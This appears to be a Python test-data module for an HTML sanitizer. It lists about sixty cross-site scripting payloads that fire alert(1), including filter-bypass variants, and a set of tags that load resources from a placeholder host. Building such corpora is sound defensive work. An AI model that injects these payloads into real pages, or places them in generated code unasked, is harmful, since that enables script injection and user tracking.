"""Attacks on a page, written by us: each runs `alert` by itself, or when it is clicked or pointed at, where nothing is escaped."""

from __future__ import annotations

# One attack a line. They stand for the ways in which text becomes code in a browser: elements that run, handlers that run on loading,
# failing, focus, motion or opening, addresses that run when followed, frames, and breaking out of each place a template may put text in.
CONTROLS = """\
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<script type=module>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
<img src=x: onerror=alert(1)>
<img src=x: onerror="alert(1)">
<img/src="x:"/onerror=alert(1)>
<IMG SRC=x: OnErRoR=alert(1)>
<image src=x: onerror=alert(1)>
"><img src=x: onerror=alert(1)>
'"><img src=x: onerror=alert(1)>
<img src=x: onerror=&#97;lert(1)>
<img src=x: onerror=\\u0061lert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
"><svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(1) attributeName=x to=1></svg>
<svg><image href=x: onerror=alert(1) /></svg>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)" onerror=alert(1)></object>
<embed src=x: onerror=alert(1)><img src=x: onerror=alert(1)>
<video src=x: onerror=alert(1)></video>
<video><source src=x: onerror=alert(1)></video>
<audio src=x: onerror=alert(1)></audio>
<input autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<a href="#" autofocus onfocus=alert(1)>x</a>
<b tabindex=1 autofocus onfocus=alert(1)>x</b>
<details open ontoggle=alert(1)>x</details>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>
<link rel=stylesheet href="data:text/css," onload=alert(1)>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href="java&#10;script:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="&#1;javascript:alert(1)">click</a>
<b onclick=alert(1)>click</b>
<b onmouseover=alert(1)>point</b>
<form action="javascript:alert(1)"><button>click</button></form>
<form><button formaction="javascript:alert(1)">click</button></form>
<body onpageshow=alert(1)>
javascript:alert(1)
JAVASCRIPT:alert(1)//
""".rstrip("\n").split("\n")

# Ways of loading something: each asks the network where nothing holds it back. They need no script.
BEACONS = """\
<img src="http://beacon.invalid/a">
<link rel=stylesheet href="http://beacon.invalid/b">
<link rel=prefetch href="http://beacon.invalid/c">
<link rel=preconnect href="http://beacon.invalid">
<link rel=dns-prefetch href="http://beacon.invalid">
<style>@import "http://beacon.invalid/d";</style>
<style>@font-face{font-family:q;src:url(http://beacon.invalid/e)}*{font-family:q}</style>
<b style="background:url(http://beacon.invalid/f)">x</b>
<iframe src="http://beacon.invalid/g"></iframe>
<object data="http://beacon.invalid/h"></object>
<embed src="http://beacon.invalid/i">
<video poster="http://beacon.invalid/j"></video>
<audio src="http://beacon.invalid/k" autoplay></audio>
<svg><image href="http://beacon.invalid/l" /></svg>
<svg><use href="http://beacon.invalid/m#x"/></svg>
<base href="http://beacon.invalid/"><img src="n">
<script src="http://beacon.invalid/o"></script>
<picture><source srcset="http://beacon.invalid/p"><img src="x:"></picture>
<table background="http://beacon.invalid/q"><tr><td>x</table>
<input type=image src="http://beacon.invalid/r">
""".rstrip("\n").split("\n")
